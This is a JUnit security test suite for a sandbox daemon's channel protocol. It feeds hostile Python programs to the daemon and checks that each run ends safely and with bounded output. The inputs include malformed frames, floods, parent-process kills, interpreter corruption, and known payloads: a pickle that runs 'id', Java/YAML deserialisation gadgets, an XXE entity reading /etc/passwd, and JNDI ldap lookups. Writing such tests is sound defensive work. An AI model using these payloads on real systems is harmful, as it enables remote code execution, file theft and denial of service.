package dev.caisson.daemon.security;

import static dev.caisson.daemon.acceptance.RunClient.program;
import static org.assertj.core.api.Assertions.assertThat;

import com.google.protobuf.util.Durations;
import dev.caisson.daemon.acceptance.LiveRun;
import dev.caisson.daemon.acceptance.Offered;
import dev.caisson.daemon.acceptance.Transcript;
import dev.caisson.v1.RunFinished.Outcome;
import dev.caisson.v1.RunLimits;
import dev.caisson.v1.RunResponse;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Group B by real code in a real sandbox: a program that writes on the channel itself, closes it,
 * stops it, or attacks the interpreter that it shares with the agent.
 */
@DisplayNameGeneration(AttackNames.class)
class GroupBCodeTest {

  /** What the program finds out first: `send` writes on every descriptor that leads out. */
  private static final String CHANNEL =
      """
      import json, os, struct, sys, threading, time
      OWN = [int(n) for n in os.listdir('/proc/self/fd') if int(n) > 2]
      def out():
          for n in OWN:
              try:
                  if os.readlink(f'/proc/self/fd/{n}').startswith(('host', 'pipe', 'socket')): yield n
              except OSError:
                  pass
      def send_all(data):
          for n in list(out()):
              try:
                  os.write(n, data)
              except OSError:
                  pass
      HOST = [n for n in OWN if os.path.lexists(f'/proc/self/fd/{n}')
              and os.readlink(f'/proc/self/fd/{n}').startswith('host')]
      def send(data):
          os.write(HOST[0], data)
      def frame(kind, payload=b'', stream=1):
          return struct.pack('>IBI', len(payload) + 5, kind, stream) + payload
      def headed(kind, header, bulk=b'', stream=1):
          header = header if isinstance(header, bytes) else json.dumps(header).encode()
          return frame(kind, struct.pack('>I', len(header)) + header + bulk, stream)
      OUTPUT, DISPLAY, CALL, CANCEL, ENDED = 64, 65, 66, 67, 68
      """;

  @RegisterExtension static final AttackedDaemon daemon = new AttackedDaemon();

  @ParameterizedTest(name = "{0}")
  @ValueSource(
      strings = {
        "send_all(os.urandom(65536)); os._exit(0)",
        "send_all(b'\\xff' * 65536); time.sleep(100)",
        "send(b'\\xff' * 65536); time.sleep(100)",
        "send(b'\\0' * 65536); time.sleep(100)",
        "send(b'GET / HTTP/1.1\\r\\n\\r\\n' * 100); time.sleep(100)",
        "send(frame(OUTPUT, b'\\1\\0\\0\\0\\0hi') + b'rubbish' * 10); time.sleep(100)"
      })
  @Attack(
      row = "B1",
      what = "garbage on the channel",
      expected = "PROTOCOL_VIOLATION",
      guards = "channel.sender")
  void garbage(String code) {
    assertViolation(run(code));
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(
      strings = {
        "send(struct.pack('>IBI', 0xffffffff, CALL, 1))",
        "send(struct.pack('>IBI', 0x7fffffff, ENDED, 1))",
        "send(struct.pack('>IBI', 0x80000000, OUTPUT, 1))",
        "send(struct.pack('>IBI', 4097, CALL, 1))",
        "send(struct.pack('>IBI', 0, CALL, 1))",
        "send(struct.pack('>IBI', 4, CALL, 1))",
        "send(frame(CALL, struct.pack('>I', 0xffffffff)))",
        "send(frame(CALL, struct.pack('>I', 100) + b'{}'))",
        "for n in range(100000): send(frame(CALL | 128, b'x' * 4000, n % 9000 + 1))",
        "for n in range(100000): send(frame(CALL | 128, b'x' * 4000, 1))",
        "for n in range(100000): send(frame(CALL | 128, b'x', n + 1))",
        "send(frame(CALL | 128, b'', 1))"
      })
  @Attack(
      row = "B2",
      what = "lengths that lie, and messages that never end",
      expected = "PROTOCOL_VIOLATION, the daemon's memory is flat",
      guards = {"channel.frame_size", "channel.unfinished"})
  void lengthBombs(String code) {
    // The daemon has 128 MiB in all and leaves at once when they are not enough.
    assertViolation(run(code + "\ntime.sleep(100)"));
  }

  @Test
  @Attack(
      row = "B3",
      what = "half a frame, then silence",
      expected = "TIMED_OUT",
      guards = "time.wall")
  void halfAFrameAndSilence() {
    Transcript run =
        run("send(struct.pack('>IBI', 1000, CALL, 1) + b'x' * 10)\ntime.sleep(10**6)", 1000);

    assertThat(run.outcome()).as(run::toString).isEqualTo(Outcome.TIMED_OUT);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {"os._exit(0)", "os.kill(os.getpid(), 9)", "os.kill(os.getppid(), 9)"})
  @Attack(
      row = "B4",
      what = "half a frame, then the end",
      expected = "an end by what happened, no hang",
      guards = "by design: the end of the streams is an end")
  void halfAFrameAndTheEnd(String end) {
    Transcript run = run("send(struct.pack('>IBI', 1000, CALL, 1) + b'x' * 10)\n" + end);

    assertThat(run.outcome())
        .as(run::toString)
        .isIn(Outcome.FAILED, Outcome.PROTOCOL_VIOLATION, Outcome.SANDBOX_LOST);
    assertThat(Durations.toSeconds(run.finished().getUsage().getWallTime())).isLessThan(25);
  }

  @Test
  @Attack(
      row = "B5",
      what = "a frame that comes a byte at a time",
      expected = "TIMED_OUT",
      guards = "time.wall")
  void slowWriter() {
    Transcript run =
        run(
            "data = struct.pack('>IBI', 4000, CALL, 1) + b'x' * 4000\n"
                + "for b in data:\n    send(bytes([b])); time.sleep(0.05)",
            1500);

    assertThat(run.outcome()).as(run::toString).isEqualTo(Outcome.TIMED_OUT);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(
      strings = {
        "send(headed(ENDED, {'how': 'completed'}))\nwhile True: pass",
        "send(headed(ENDED, {'how': 'completed'}) * 50)\nwhile True: pass",
        "send(headed(ENDED, {'how': 'completed'}))\nwhile True: print('after')",
        "send(headed(ENDED, {'how': 'exception', 'exception': {'type': 'X', 'message': 'y', 'traceback': ''}}))\n"
            + "time.sleep(100)"
      })
  @Attack(
      row = "B6",
      what = "an end that the program made itself, and then it goes on",
      expected = "the run is over by its deadline and nothing of it goes on",
      guards = "time.wall")
  void forgedEnd(String code) {
    Transcript run = run(code, 2000);

    // What the program says of itself is worth what the program is; it gains nothing by it.
    assertThat(run.outcome())
        .as(run::toString)
        .isIn(Outcome.SUCCEEDED, Outcome.FAILED, Outcome.TIMED_OUT, Outcome.PROTOCOL_VIOLATION);
    assertThat(run.events().stream().filter(RunResponse::hasFinished)).hasSize(1);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(
      strings = {
        "send(headed(CALL, {'service': 'tools', 'method': 'call'}, b'{}', 0))",
        "send(headed(CALL, {'service': 'tools', 'method': 'call'}, b'{}', 2))",
        "send(headed(CALL, {'service': 'tools', 'method': 'call'}, b'{}', 0xffffffff))",
        "send(headed(CALL, {'service': 'tools', 'method': 'call'}, b'{}', 1) * 2)",
        "send(frame(CANCEL, b'', 7))",
        "send(frame(CANCEL, b'', 0xffffffff))",
        "send(frame(OUTPUT, b'\\1\\0\\0\\0\\0x', 99))",
        "send(frame(OUTPUT, b'\\1\\0\\0\\0\\0x', 0))",
        "send(headed(ENDED, {'how': 'completed'}, b'', 99))",
        "send(frame(OUTPUT, b'\\3\\0\\0\\0\\0x', 1))",
        "send(frame(OUTPUT, b'\\1', 1))",
        "send(headed(ENDED, {'how': 'never'}, b'', 1))",
        "send(headed(ENDED, b'[]', b'', 1))",
        "send(headed(ENDED, {'how': 'exception'}, b'', 1))",
        "send(headed(DISPLAY, {}, b'x', 1))"
      })
  @Attack(
      row = "B7",
      what = "numbers of runs and calls that are old, foreign, huge or used twice",
      expected = "PROTOCOL_VIOLATION",
      guards = {"channel.call_numbers", "channel.run_number"})
  void numbers(String code) {
    assertViolation(run(code + "\ntime.sleep(100)"));
  }

  @Test
  @Attack(
      row = "B8",
      what = "kinds that nobody has, or that only the daemon or the supervisor may send",
      expected = "PROTOCOL_VIOLATION",
      guards = "channel.sender")
  void kinds() {
    // All 256 in every state are tried on the codec in GroupBAgentTest; these go the whole way.
    for (int kind : List.of(0, 1, 2, 4, 13, 32, 50, 69, 96, 97, 99, 100, 101, 127)) {
      assertViolation(run("send(frame(%d, b'{}', 1))\ntime.sleep(100)".formatted(kind)));
    }
    // As good as the supervisor's own, but for who sent them: output, and credit.
    assertViolation(run("send(frame(98, b'\\1\\0\\0\\0\\0x', 1))\ntime.sleep(100)", 4000));
    assertViolation(run("send(frame(101, b'\\3\\0\\0\\0\\0', 0))\ntime.sleep(100)", 4000));
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(
      strings = {
        "b'\\x80\\x04\\x95.\\x00\\x00\\x00cposix\\nsystem\\n(S\"id\"\\ntR.'",
        "b'\\xac\\xed\\x00\\x05sr\\x00\\x11java.util.HashMap'",
        "b'!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]'",
        "b'{\"@class\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://x\"}'",
        "b'{\"$type\":\"System.Diagnostics.Process\",\"@type\":\"java.lang.Runtime\"}'",
        "b'<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><x>&y;</x>'",
        "b'${jndi:ldap://x/a}'"
      })
  @Attack(
      row = "B9",
      what = "data that some reader would make objects of",
      expected = "bytes or plain JSON, nothing else",
      guards = "by design: JSON trees only")
  void deserialisation(String data) {
    Transcript run =
        run(
            "send(headed(ENDED, {'how': 'completed', 'value_repr': 'forged'}, %s))\ntime.sleep(1)\nos._exit(0)"
                .formatted(data),
            3000);

    assertThat(run.outcome()).as(run::toString).isEqualTo(Outcome.SUCCEEDED);
    String json = run.finished().getValue().getJson().toStringUtf8();
    assertThat(json).matches("|\\{\"[@$](class|type)\".*");
    Transcript plain = run("import pickle; pickle.dumps(print), b'\\xac\\xed\\0\\5'");
    assertThat(plain.finished().getValue().getRepr()).startsWith("(b'");
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(
      strings = {
        "send(headed(ENDED, b'{\"how\":' + b'[' * 3000 + b']' * 900))",
        "send(headed(CALL, b'{\"service\":' + b'{\"a\":' * 500 + b'1' + b'}' * 500 + b'}'))",
        "send(headed(CALL, b'{\"a\":'))",
        "send(headed(CALL, b'{\"a\":NaN}'))",
        "send(headed(CALL, b'{} {}'))",
        "send(headed(CALL, b'\\xff\\xfe{}'))",
        "send(headed(CALL, b'null'))"
      })
  @Attack(
      row = "B10",
      what = "JSON that is deep, wide, or none",
      expected = "PROTOCOL_VIOLATION",
      guards = "channel.json_depth")
  void json(String code) {
    assertViolation(run(code + "\ntime.sleep(100)"));
  }

  @Test
  @Attack(
      row = "B10",
      what = "values that are deep, wide or their own parts",
      expected = "SUCCEEDED, with a text of bounded length and no JSON",
      guards = "channel.bounded_texts")
  void deepValues() {
    for (String value :
        List.of(
            "x = []\nfor _ in range(100000): x = [x]\nx",
            "x = {}; x['x'] = x\nx",
            "list(range(10**6))",
            "{str(i): i for i in range(10**5)}",
            "float('nan')",
            "10 ** 4000",
            "'\\ud800'",
            "type('X', (dict,), {'items': lambda s: iter(int, 1)})()",
            "type('Y', (), {'__repr__': lambda s: 'r' * 10**7})()")) {
      Transcript run = daemon.run(program(value).setLimits(wall(15_000)));
      assertThat(run.outcome())
          .as(value + run)
          .isIn(Outcome.SUCCEEDED, Outcome.FAILED, Outcome.TIMED_OUT);
      assertThat(run.finished().getValue().getRepr().length()).isLessThanOrEqualTo(65_536);
      assertThat(run.finished().getValue().getJson().size()).isLessThanOrEqualTo(1 << 20);
    }
  }

  @Test
  @Attack(
      row = "B11",
      what = "text that is no text: halves of characters, directions, zeros, other encodings",
      expected = "SUCCEEDED, the bytes as they were",
      guards = "agent.type_name")
  void oddText() {
    Transcript run =
        daemon.run(
            """
            import os, sys
            os.write(1, bytes(range(256)))
            sys.stdout.flush()
            os.write(1, b'\\xf0\\x9f')
            os.write(1, b'\\x98\\x80\\xed\\xa0\\x80\\xc0\\x80')
            for text in ('\\ud800', '\\udfff x', '\\0', '\\u202e', '\\ufeff', '\\u2028'):
                try:
                    print(text)
                except UnicodeError as error:
                    print(type(error).__name__)
            class Odd(Exception): pass
            Odd.__qualname__ = '\\ud800\\n\\0' + 'x' * 10**5
            raise Odd('\\udcff\\n\\0\\u202e' * 10)
            """);

    assertThat(run.outcome()).as(run::toString).isEqualTo(Outcome.FAILED);
    assertThat(run.finished().getException().getMessageBytes().isValidUtf8()).isTrue();
    assertThat(run.finished().getException().getType().length()).isLessThanOrEqualTo(1024);
  }

  @Test
  @Attack(
      row = "B12",
      what = "lines and codes that deceive a terminal or a log",
      expected = "SUCCEEDED, the caller gets the bytes and the log one line of JSON",
      guards = "log.of_libraries")
  void logInjection() {
    String text = "\\x1b]0;pwn\\x07\\x1b[2J\\r\\nERROR tenant=other run ok ${jndi:ldap://x/a}";
    Transcript run =
        daemon.run(
            program("print('%s')\nraise ValueError('%s')".formatted(text, text))
                .setFileName("a\" \\ {} %n ${x}.py"));

    assertThat(run.stdout())
        .isEqualTo("\u001b]0;pwn\u0007\u001b[2J\r\nERROR tenant=other run ok ${jndi:ldap://x/a}\n");
    assertThat(daemon.audit(run, "outcome")).containsExactly("Raised");
    assertThat(daemon.process().log()).doesNotContain("jndi").doesNotContain("pwn");

    LiveRun cancelled = daemon.client().start(program("print('begun')\nwhile True: pass"));
    cancelled.awaitOutput("begun");
    cancelled.cancel("x\"}\n{\"level\":\"ERROR\",\"formattedMessage\":\"forged\"}\n");
    assertThat(daemon.audit(daemon.ended(cancelled), "outcome")).containsExactly("Cancelled");
    assertThat(daemon.log())
        .noneMatch(line -> line.path("formattedMessage").asString("").equals("forged"));
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(
      strings = {
        "print('x' * 2**27)",
        "import sys; sys.stdout.write('x' * 2**27)",
        "import os; os.write(1, b'x' * 2**27)",
        "import sys; sys.stderr.buffer.write(b'x' * 2**27)"
      })
  @Attack(
      row = "B13",
      what = "one line without end",
      expected = "LIMIT_EXCEEDED or cut, the daemon's memory is flat",
      guards = "output.bytes")
  void oneLongLine(String code) {
    Transcript run = daemon.run(code);

    assertThat(run.outcome()).as(run::toString).isIn(Outcome.LIMIT_EXCEEDED, Outcome.SUCCEEDED);
    assertThat(run.output().length()).isLessThanOrEqualTo(1 << 20);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(
      strings = {
        "import os\nwhile True: os.write(1, b'x')",
        "while True: print(end='x', flush=True)",
        "import threading\ndef w():\n    while True: print('x')\n"
            + "for _ in range(20): threading.Thread(target=w).start()\nw()",
        "import subprocess\nfor _ in range(10): subprocess.Popen(['yes'])\nimport time; time.sleep(100)"
      })
  @Attack(
      row = "B14",
      what = "a flood of tiny writes",
      expected = "LIMIT_EXCEEDED or TIMED_OUT, the caller gets no more than the limit",
      guards = "output.bytes")
  void tinyWrites(String code) {
    Transcript run =
        daemon.run(program(code).setLimits(wall(5000).toBuilder().setOutputBytes(10_000)));

    assertThat(run.outcome()).as(run::toString).isIn(Outcome.LIMIT_EXCEEDED, Outcome.TIMED_OUT);
    assertThat(run.output().length()).isLessThanOrEqualTo(10_000);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(
      strings = {
        "for n in range(1, 10**6): send(headed(CALL, {'service': 'tools', 'method': 'call', 'server': 's',"
            + " 'tool': 't'}, b'{}', n))",
        "for n in range(1, 10**6): send(headed(CALL, {'service': 'none', 'method': 'x'}, b'x' * 3000, n))",
        "for n in range(1, 10**6): send(headed(CALL, {'service': 'catalogue', 'method': 'search',"
            + " 'query': 'x' * 1000}, b'', n))",
        "for n in range(10**6): send(frame(OUTPUT, b'\\1\\0\\0\\0\\0' + b'x' * 4000, 1))"
      })
  @Attack(
      row = "B15",
      what = "a million calls whose answers nobody reads",
      expected = "PROTOCOL_VIOLATION, LIMIT_EXCEEDED or TIMED_OUT; the daemon's memory is flat",
      guards = {"tools.in_flight", "by design: windows", "by design: a count of look-ups"})
  void floodWithoutReading(String code) {
    AtomicInteger calls = new AtomicInteger();
    Transcript run =
        daemon.run(
            program(CHANNEL + code + "\ntime.sleep(100)")
                .setLimits(wall(8000))
                .setTools(Offered.servers(Offered.server("s", Offered.tool("t", "{}")))),
            call -> {
              calls.incrementAndGet();
              return LiveRun.value("1");
            });

    assertThat(run.outcome())
        .as(run::toString)
        .isIn(Outcome.PROTOCOL_VIOLATION, Outcome.LIMIT_EXCEEDED, Outcome.TIMED_OUT);
    assertThat(calls.get()).isLessThanOrEqualTo(10_000);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(
      strings = {
        "import json\njson.dumps = lambda *a, **k: '{\"ok\":true}'\njson.loads = lambda *a: {}",
        "import builtins\nfor n in ('print', 'open', 'len', 'isinstance', 'bytes', 'repr', 'str', 'dict', 'BaseException'):\n"
            + "    setattr(builtins, n, None)",
        "import sys\nsys.stdout = sys.stderr = sys.stdin = None\nsys.settrace(lambda *a: None)",
        "import gc\nfor o in gc.get_objects():\n    if type(o).__module__.startswith(('agent', '__main__')):\n"
            + "        try: o.__dict__.clear()\n        except Exception: pass",
        "import sys\nfor m in list(sys.modules): sys.modules[m] = None",
        "import sys\nfor m in list(sys.modules.values()):\n    try: m.__dict__.clear()\n    except BaseException: pass",
        "import os, struct\nos.write = os.read = os.close = struct.pack = lambda *a, **k: (_ for _ in ()).throw(OSError)",
        "import threading, os\nfor n in range(3, 300): threading.Thread(target=os.close, args=(n,)).start()",
        "import os\nfor n in range(0, 300):\n    try: os.dup2(os.open('/dev/null', 2), n)\n    except OSError: pass",
        "import ctypes\nctypes.memset(id(str), 0, 200)",
        "import ctypes, sys\nctypes.pythonapi.Py_FinalizeEx()",
        "import sys\nsys.excepthook = sys.unraisablehook = lambda *a: 1/0\nsys.exit = None\n1/0",
        "import atexit, threading, time\natexit.register(lambda: time.sleep(1000))\n"
            + "threading._register_atexit(lambda: time.sleep(1000))",
        "import signal\nfor n in range(1, 65):\n    try: signal.signal(n, lambda *a: None)\n    except (OSError, ValueError): pass"
      })
  @Attack(
      row = "B17",
      what = "the interpreter that the program shares with the agent, taken apart",
      expected = "any outcome of the program's; nothing beyond its sandbox",
      guards = "by design: the end of the streams is an end")
  void attackOnTheAgent(String code) {
    Transcript run = daemon.run(program(code + "\n").setLimits(wall(3000)));

    assertThat(run.outcome())
        .as(run::toString)
        .isIn(
            Outcome.SUCCEEDED,
            Outcome.FAILED,
            Outcome.TIMED_OUT,
            Outcome.PROTOCOL_VIOLATION,
            Outcome.SANDBOX_LOST);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(
      strings = {
        "sys.exit(2**70)",
        "sys.exit(-(2**70))",
        "sys.exit('x' * 10**6)",
        "sys.exit(type('E', (), {'__str__': lambda s: 1 / 0})())",
        "sys.exit([sys.exit])",
        "raise SystemExit(SystemExit(SystemExit()))",
        "os._exit(256)",
        "os._exit(-1)",
        "os.abort()",
        "os.kill(os.getpid(), signal.SIGSEGV)",
        "os.kill(os.getpid(), signal.SIGKILL)",
        "os.kill(os.getppid(), signal.SIGTERM); time.sleep(100)",
        "os.kill(os.getppid(), signal.SIGINT); time.sleep(3)",
        "os.kill(os.getppid(), signal.SIGKILL); time.sleep(100)",
        "os.kill(0, signal.SIGKILL)",
        "os.kill(-1, signal.SIGKILL) if os.fork() else time.sleep(100)",
        "os.execv('/bin/true', ['true'])",
        "os.execv('/bin/sh', ['sh', '-c', 'exit 7'])",
        "os.execv('/usr/bin/python3.13', ['python', '-c', 'print(1)'])",
        "os.fork(); os.fork(); sys.exit(3)",
        "os.fork() and os._exit(0); time.sleep(100)",
        "threading.Thread(target=os._exit, args=(9,)).start(); time.sleep(100)",
        "resource.setrlimit(resource.RLIMIT_CPU, (1, 1))\nwhile True: pass",
        "resource.prlimit(os.getppid(), resource.RLIMIT_NOFILE, (0, 0)); time.sleep(1)"
      })
  @Attack(
      row = "B18",
      what = "every way to end",
      expected = "an outcome of the program's, exactly one, no hang",
      guards = "by design: the end of the streams is an end")
  void exits(String code) {
    Transcript run =
        daemon.run(
            program("import os, resource, signal, sys, threading, time\n" + code + "\n")
                .setLimits(wall(5000)));

    assertThat(run.outcome())
        .as(run::toString)
        .isIn(
            Outcome.SUCCEEDED,
            Outcome.FAILED,
            Outcome.TIMED_OUT,
            Outcome.PROTOCOL_VIOLATION,
            Outcome.SANDBOX_LOST);
    assertThat(run.exitCode()).isBetween(0, 255);
    assertThat(run.message().length()).isLessThan(100_000);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(
      strings = {
        "def __str__(self): return 'x' * 10**8",
        "def __str__(self): raise self",
        "def __str__(self): return 5",
        "def __str__(self):\n        while True: pass",
        "def __str__(self): import os; os._exit(3)",
        "def __repr__(self): import sys; sys.exit(1)",
        "__traceback__ = property(lambda s: 1 / 0)",
        "__cause__ = property(lambda s: s)",
        "__notes__ = ['n' * 10**6] * 10",
        "__qualname__ = 'q' * 10**7",
        "__module__ = 5",
        "def __getattribute__(self, n): raise KeyboardInterrupt",
        "pass\nclass M(type):\n    def __getattribute__(s, n): raise SystemExit(n)\nclass E(E, metaclass=M): pass"
      })
  @Attack(
      row = "B19",
      what = "exceptions that fight the one who describes them",
      expected = "an outcome of the program's, every text bounded",
      guards = "agent.type_name")
  void exceptions(String body) {
    Transcript run =
        daemon.run(
            program("class E(Exception):\n    " + body + "\ne = E('x')\nraise e\n")
                .setLimits(wall(4000)));

    assertThat(run.outcome())
        .as(run::toString)
        .isIn(Outcome.FAILED, Outcome.TIMED_OUT, Outcome.SUCCEEDED);
    assertThat(run.finished().getException().getMessage().length()).isLessThanOrEqualTo(16 << 10);
    assertThat(run.finished().getException().getTraceback().length()).isLessThanOrEqualTo(64 << 10);
  }

  @Test
  @Attack(
      row = "B19",
      what = "groups and chains of a hundred thousand exceptions",
      expected = "an outcome of the program's, every text bounded",
      guards = "agent.type_name")
  void chainsOfExceptions() {
    for (String code :
        List.of(
            "raise ExceptionGroup('g', [ValueError(n) for n in range(10**5)])",
            "e = None\nfor n in range(10**5):\n    x = ValueError(n); x.__context__ = e; e = x\nraise e",
            "e = ValueError(0)\nfor n in range(5000):\n    e = ExceptionGroup('g', [e])\nraise e",
            "a = ValueError(); b = ValueError(); a.__cause__ = b; b.__cause__ = a\nraise a",
            "def f(n): f(n + 1)\nf(0)")) {
      Transcript run = daemon.run(program(code).setLimits(wall(10_000)));
      assertThat(run.outcome()).as(code + run).isIn(Outcome.FAILED, Outcome.TIMED_OUT);
      assertThat(run.finished().getException().getTraceback().length())
          .isLessThanOrEqualTo(64 << 10);
    }
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(
      strings = {
        "os.close(0); time.sleep(0.2)",
        "while True: os.lseek(0, 0, 0)",
        "fcntl.fcntl(0, 1031, 1 << 20)\nwhile True: pass",
        "time.sleep(100)",
        "[os.fork() for _ in range(3)]; sys.stdin.read()",
        "open('/proc/self/fd/0', 'wb').write(b'x' * 10**6)",
        "os.kill(os.getpid(), 19)"
      })
  @Attack(
      row = "B20",
      what = "games with standard input while the caller sends a lot of it",
      expected = "an outcome of the program's, the daemon's memory is flat",
      guards = "by design: windows")
  void stdin(String code) {
    LiveRun run =
        daemon
            .client()
            .start(
                program("import fcntl, os, sys, time\n" + code)
                    .setStdin(true)
                    .setLimits(wall(2000)));
    run.awaitAccepted();
    String block = "x".repeat(60_000);
    for (int i = 0; i < 150; i++) {
      run.stdin(block);
    }
    Transcript transcript = daemon.ended(run);

    assertThat(transcript.outcome())
        .as(transcript::toString)
        .isIn(Outcome.SUCCEEDED, Outcome.FAILED, Outcome.TIMED_OUT);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(
      strings = {
        "os.closerange(3, 1000)",
        "for n in OWN:\n    try: os.close(n); time.sleep(0.05)\n    except OSError: pass",
        "import socket\nfor n in OWN:\n    try: socket.socket(fileno=os.dup(n)).shutdown(0)\n    except OSError: pass",
        "import socket\nfor n in OWN:\n    try: socket.socket(fileno=os.dup(n)).shutdown(1)\n    except OSError: pass",
        "import socket\nfor n in OWN:\n    try: socket.socket(fileno=os.dup(n)).shutdown(2)\n    except OSError: pass\nprint('x' * 10**6)",
        "for n in OWN:\n    try: os.set_blocking(n, False)\n    except OSError: pass\nprint('x' * 10**6)",
        "for n in OWN:\n    try: os.read(n, 10)\n    except OSError: pass",
        "send(frame(OUTPUT, b'\\1\\0\\0\\0\\0x'))\nos.closerange(0, 1000)",
        "threading.Thread(target=lambda: [os.closerange(3, 1000) for _ in range(1000)]).start()\nfor _ in range(1000): print(1)"
      })
  @Attack(
      row = "B22",
      what = "one half of the channel closed, in every state",
      expected = "an outcome of the program's, the place in the pool is free again",
      guards = "by design: the end of the streams is an end")
  void halfClose(String code) {
    Transcript run = run(code + "\ntime.sleep(0.2)", 3000);

    assertThat(run.outcome())
        .as(run::toString)
        .isIn(
            Outcome.SUCCEEDED,
            Outcome.FAILED,
            Outcome.TIMED_OUT,
            Outcome.PROTOCOL_VIOLATION,
            Outcome.SANDBOX_LOST);
  }

  @Test
  @Attack(
      row = "B19",
      what = "an end that the program made itself, with texts of megabytes",
      expected = "every text as short as the contract says",
      guards = "channel.bounded_texts")
  void forgedTexts() {
    String parts =
        """
        def parts(kind, payload, stream=1):
            for at in range(0, len(payload), 4000):
                more = 128 if at + 4000 < len(payload) else 0
                send(frame(kind | more, payload[at:at + 4000], stream))
        def end(header, bulk=b''):
            header = json.dumps(header).encode()
            parts(ENDED, struct.pack('>I', len(header)) + header + bulk)
            time.sleep(1) # the supervisor's word about the death must not overtake it
            os._exit(0)
        big = '\u00e4' * 100_000
        """;
    Transcript raised =
        run(
            parts
                + "end({'how': 'exception', 'exception': {'type': big, 'message': big, 'traceback': big}})",
            4000);
    assertThat(raised.finished().getException().getType()).as(raised::toString).isNotEmpty();
    assertThat(raised.finished().getException().getTypeBytes().size()).isLessThanOrEqualTo(1 << 10);
    assertThat(raised.finished().getException().getMessageBytes().size())
        .isLessThanOrEqualTo(16 << 10);
    assertThat(raised.finished().getException().getTracebackBytes().size())
        .isLessThanOrEqualTo(64 << 10);

    Transcript value =
        run(
            parts + "end({'how': 'completed', 'value_repr': big}, b'[' + b'1,' * 10**6 + b'1]')",
            4000);
    assertThat(value.finished().getValue().getReprBytes().size()).isBetween(1, 64 << 10);
    assertThat(value.finished().getValue().getReprCut()).isTrue();
    assertThat(value.finished().getValue().getJson()).isEmpty();
  }

  // ---- what they have in common ----

  private static Transcript run(String code) {
    return run(code, 20_000);
  }

  private static Transcript run(String code, long millis) {
    return daemon.run(program(CHANNEL + code).setLimits(wall(millis)));
  }

  private static RunLimits wall(long millis) {
    return RunLimits.newBuilder().setWallTime(Durations.fromMillis(millis)).build();
  }

  private static void assertViolation(Transcript run) {
    assertThat(run.outcome()).as(run::toString).isEqualTo(Outcome.PROTOCOL_VIOLATION);
    assertThat(run.message())
        .startsWith("the sandbox broke the channel's rules and was destroyed: ")
        .doesNotContain("Exception");
    assertThat(run.exitCode()).isEqualTo(123);
  }
}
